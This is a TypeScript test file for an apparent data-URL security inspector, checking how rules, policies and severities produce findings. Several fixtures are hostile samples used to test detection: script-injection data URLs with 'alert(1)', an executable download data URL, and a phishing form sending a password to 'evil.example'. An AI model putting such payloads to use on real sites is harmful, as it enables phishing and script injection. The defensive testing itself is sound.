import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inspect } from '../../../src/inspect.ts';
import { defaultPolicy } from '../../../src/policy/policy.ts';
import type { Policy } from '../../../src/policy/policy-types.ts';
import { type Finding, highestSeverity, isFlagged, isUnsafe } from '../../../src/report/report.ts';
import { messageTexts } from '../../../src/rules/docs.ts';
import { judge, judgePage } from '../../../src/rules/index.ts';
import type { PageRule } from '../../../src/rules/page/page-rule.ts';
import type { Rule, Verdict } from '../../../src/rules/rule.ts';
import { type Impact, severityOf, time, type Use } from '../../../src/rules/severity.ts';
import type { RuleTexts } from '../../../src/rules/texts.ts';
import { destinations, type Occurrence, type Severity } from '../../../src/vocabulary.ts';
import { html, quoted, type Where } from './cases.ts';
import { dataUrl } from './page.ts';
import { declared, occurrence, subject } from './subject.ts';

const texts: RuleTexts = {
  ...{ title: 'R', why: 'W.', fix: 'F.', source: { name: 'S', url: 'https://example.com/' } },
  messages: { m: 'M.' },
  examples: { bad: '', good: '' },
};
const impacts: Record<Severity, Impact> = {
  error: { effect: 'not-shown' },
  warning: { effect: 'not-shown', isCertain: false },
  info: { effect: 'advice' },
};
const rule = (id: string, severity: Severity, check: Rule['check']): Rule => ({
  ...{ id, category: 'correctness', texts, check },
  ...impacts[severity],
});
const verdict: Verdict = { messageId: 'm', args: {}, start: 1, end: 2 };
const message = 'M.';

test('a verdict takes from its rule what it does not say itself', () => {
  const { findings } = judge(subject(), [
    rule('a-rule', 'warning', () => [verdict, { ...verdict, ...impacts.info }]),
  ]);
  const common = { rule: 'a-rule', category: 'correctness', help: '#a-rule', message, ...verdict };
  assert.deepEqual(findings, [
    { ...common, severity: 'warning', effect: impacts.warning.effect },
    { ...common, severity: 'info', effect: 'advice' },
  ]);
});

test('findings come gravest first, and else in the order of their rules', () => {
  const { findings } = judge(subject(), [
    rule('a', 'info', () => [verdict]),
    rule('b', 'error', () => [verdict]),
    rule('c', 'warning', () => [verdict]),
    rule('d', 'error', () => [verdict]),
  ]);
  assert.deepEqual(
    findings.map((finding) => finding.rule),
    ['b', 'd', 'c', 'a'],
  );
});

test('a rule that throws becomes a finding about itself, and the others still judge', () => {
  const { findings } = judge(subject(), [
    rule('bad', 'error', () => {
      throw new TypeError('oh');
    }),
    rule('worse', 'error', () => {
      throw 'text';
    }),
    rule('good', 'warning', () => [verdict]),
  ]);
  assert.deepEqual(
    findings.map(({ rule, severity, messageId, args }) => [rule, severity, messageId, args]),
    [
      ['good', 'warning', 'm', {}],
      ['bad', 'info', 'rule-crashed', { rule: 'bad', error: 'TypeError: oh' }],
      ['worse', 'info', 'rule-crashed', { rule: 'worse', error: 'text' }],
    ],
  );
  assert.deepEqual([findings[1]?.start, findings[1]?.end], [0, 40]);
  assert.ok('rule-crashed' in messageTexts);
});

test('a policy turns a rule off, or gives it another severity', () => {
  const verdicts = rule('a-rule', 'warning', () => [verdict, { ...verdict, ...impacts.info }]);
  const crash = rule('bad', 'error', () => {
    throw 'text';
  });
  const by = (a: 'off' | Severity) =>
    judge({ ...subject(), policy: { ...defaultPolicy, rules: { 'a-rule': a } } }, [
      verdicts,
      crash,
    ]).findings.map(({ rule, severity }) => `${rule} ${severity}`);
  assert.deepEqual(by('error'), ['a-rule error', 'a-rule error', 'bad info']);
  assert.deepEqual(by('off'), ['bad info']);
});

test('the severity follows from effect, certainty, bytes, policy and use', () => {
  const cases: [impact: Impact, severities: string][] = [
    ...(['not-shown', 'can-run', 'deceives'] as const).flatMap((effect): [Impact, string][] => [
      [{ effect }, 'error warning info'],
      [{ effect, isCertain: false }, 'warning warning info'],
    ]),
    [{ effect: 'not-allowed' }, 'error warning info'],
    [{ effect: 'not-allowed', policySeverity: 'warning' }, 'warning warning info'],
    [{ effect: 'costs' }, 'info info info'],
    [{ effect: 'costs', bytes: 100_000 }, 'info info info'],
    [{ effect: 'costs', bytes: 100_001 }, 'warning warning info'],
    [{ effect: 'costs', bytes: time }, 'warning warning info'],
    [{ effect: 'advice', bytes: time }, 'info info info'],
  ];
  const uses: Use[] = ['used', 'inert', 'quoted'];
  for (const [impact, severities] of cases)
    assert.equal(uses.map((use) => severityOf(impact, use)).join(' '), severities, JSON.stringify(impact));
});

test('a setting takes precedence over effect and use', () => {
  const policy = { ...defaultPolicy, rules: { 'a-rule': 'error' } } as const;
  const occurrences = [{ ...occurrence('image'), inert: true }];
  const { findings } = judge({ ...subject(), occurrences, policy }, [
    rule('a-rule', 'info', () => [verdict]),
  ]);
  assert.deepEqual(
    findings.map(({ severity }) => severity),
    ['error'],
  );
});

test('a rule gives way to one that says more, unless that is less severe', () => {
  const more = (severity: Severity) => rule('more', severity, () => [verdict]);
  const less = { ...rule('less', 'warning', () => [verdict]), yieldsTo: () => ['more'] };
  const by = (...rules: Rule[]) => judge(subject(), rules).findings.map(({ rule }) => rule);
  assert.deepEqual(by(less, more('error')), ['more']);
  assert.deepEqual(by(less, more('warning')), ['more']);
  assert.deepEqual(by(less, more('info')), ['less', 'more']);
  assert.deepEqual(by(less), ['less']);
});

test('a type that the user disallows is reported beside other findings', () => {
  const html = { ...declared('image/png'), detectedType: 'text/html' };
  const user: Policy = { ...defaultPolicy, types: [entry('text/html', 'user')] };
  const by = (policy: Policy) => judge({ ...subject(html), policy }).findings.map(({ rule }) => rule);
  assert.deepEqual(by(defaultPolicy), ['type-mismatch']);
  assert.deepEqual(by(user), ['type-mismatch', 'disallowed-type']);
});

const entry = (pattern: string, by: 'default' | 'user'): Policy['types'][number] => ({
  pattern,
  destinations: 'any',
  severity: 'error',
  by,
  site: null,
});

test('what is inert is no error, and what is only quoted is no more than a word', () => {
  const grave = rule('grave', 'error', () => [verdict]);
  const severityOf = (...occurrences: Occurrence[]) =>
    judge({ ...subject(), occurrences }, [grave]).findings.map(({ severity }) => severity);
  const live = occurrence('image');
  const inert = { ...live, inert: true };
  const quoted: Occurrence = { ...live, place: 'script', destination: 'none' };
  assert.deepEqual(severityOf(live), ['error']);
  assert.deepEqual(severityOf(), ['error']);
  assert.deepEqual(severityOf(inert), ['warning']);
  assert.deepEqual(severityOf({ ...quoted, inert: true }), ['info']);
  assert.deepEqual(severityOf(quoted), ['info']);
  assert.deepEqual(severityOf(quoted, inert), ['warning']);
  assert.deepEqual(severityOf(quoted, inert, live), ['error']);
});

test('a place that is not in use adds what the others do not have', () => {
  const framed = rule('framed', 'error', ({ occurrences }) =>
    occurrences.some(({ destination }) => destination === 'iframe') ? [verdict] : [],
  );
  const occurrences = [occurrence('image'), { ...occurrence('iframe'), inert: true }];
  const { findings } = judge({ ...subject(), occurrences }, [framed]);
  assert.deepEqual(
    findings.map(({ severity }) => severity),
    ['warning'],
  );
});

test('any disallowed place disallows, also one that is not in use', () => {
  const occurrences = [{ ...occurrence('iframe'), inert: true }];
  assert.equal(judge({ ...subject(declared('text/html')), occurrences }).disallowed?.destination, 'iframe');
});

test('the page is judged by the policy too, and a crash is a finding', () => {
  const page = { page: { url: 'https://example.com/' }, dataUrls: [], csp: [] };
  const pageRule: PageRule = { ...rule('p', 'warning', () => []), check: () => [verdict] };
  const broken: PageRule = {
    ...pageRule,
    id: 'broken',
    check: () => {
      throw new Error('oh');
    },
  };
  const by = (rules: Policy['rules']) =>
    judgePage({ ...page, policy: { ...defaultPolicy, rules } }, [broken, pageRule]).map(
      ({ rule, severity, messageId }) => [rule, severity, messageId],
    );
  assert.deepEqual(by({}), [
    ['p', 'warning', 'm'],
    ['broken', 'info', 'rule-crashed'],
  ]);
  assert.deepEqual(by({ p: 'off', broken: 'off' }), []);
});

test('the judgement says why a URL is disallowed, in the words of the Report', () => {
  assert.deepEqual(judge(subject(declared('text/html'), 'iframe')).disallowed, {
    pattern: 'text/html',
    destination: 'iframe',
    type: 'declared',
    by: 'default',
  });
  assert.deepEqual(judge(subject()), { disallowed: null, findings: [], nested: [] });
});

test('every message of a real rule can be translated', () => {
  const subjects = [
    subject({ ...declared('text/html'), detectedType: 'text/html' }, 'iframe'),
    subject({ detectedType: 'application/zip' }),
    subject({ problem: { code: 'no-comma', args: {}, message: 'No comma.', start: 0, end: 0 } }),
  ];
  for (const each of subjects) {
    const { findings } = judge(each);
    assert.equal(findings.length, 1);
    assert.ok(findings[0]!.messageId in messageTexts);
  }
});

test('the worst of findings, and what is flagged', () => {
  const of = (...severities: Severity[]): Finding[] =>
    severities.map((severity) => ({
      rule: 'r',
      category: 'policy',
      effect: 'not-allowed',
      help: '#r',
      message,
      ...verdict,
      severity,
    }));
  assert.equal(highestSeverity([]), null);
  assert.equal(highestSeverity(of('info', 'error', 'warning')), 'error');
  assert.equal(highestSeverity(of('info', 'warning', 'info')), 'warning');
  assert.equal(highestSeverity(of('info')), 'info');
  assert.ok(!isFlagged([]) && !isFlagged(of('info', 'info')));
  assert.ok(isFlagged(of('info', 'warning')) && isFlagged(of('error')));
});

test('what is disallowed for what it may do is of security, as what contradicts its type is', async () => {
  for (const [written, destination] of [
    ['data:application/x-msdownload;base64,TVqQAAMAAAAEAAAA', 'download'],
    ['data:text/javascript,alert(1)', 'script'],
    ['data:text/html,<script>alert(1)</script>', 'iframe'],
  ] as const) {
    const { findings } = await dataUrl(written, destination);
    assert.ok(
      isUnsafe(findings),
      `${written}: ${findings.map(({ category, severity }) => `${category} ${severity}`)}`,
    );
  }
  assert.equal(isUnsafe((await dataUrl('data:image/png;base64,AA*A', 'image')).findings), false);
});

test('no wording names a use that is none, a type that nobody declared, or a misspelling a disguise', async () => {
  const svg = "<svg xmlns='http://www.w3.org/2000/svg'/>";
  for (const written of [
    'data:text/html,<script>1</script>',
    'data:;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7',
    `data:image/svg,${svg}`,
    `data:image/svg;base64,${btoa(svg)}`,
  ]) {
    const inspection = await inspect(written);
    for (const destination of destinations) {
      const { findings } = judge({
        inspection,
        occurrences: [occurrence(destination)],
        policy: defaultPolicy,
      });
      assert.ok(findings.length > 0 || destination !== 'none', written);
      const texts = findings.map(({ message }) => message).join(' ');
      assert.doesNotMatch(
        texts,
        /as none|Declared as text\/plain|Disguised as image\/svg\b/,
        `${written}, ${destination}`,
      );
    }
  }
});

test('the effect: that of what runs inside, also in phishing; of what is only quoted, advice', async () => {
  const effectsOf = async (written: string, where: Where) =>
    new Set((await dataUrl(written, where)).findings.map(({ effect }) => effect));
  const runs = '<script>run()</script>';
  const inside = await effectsOf(html(`<iframe src='${html(runs)}'></iframe>`), 'iframe');
  assert.ok(inside.has('can-run'));
  const form = '<form action=https://evil.example/><input type=password></form>';
  const phishing = await effectsOf(html(form + runs), 'iframe');
  assert.ok(phishing.has('can-run') && phishing.has('deceives'));
  const inScript = await effectsOf(html(runs), quoted);
  assert.deepEqual([...inScript], ['advice']);
});
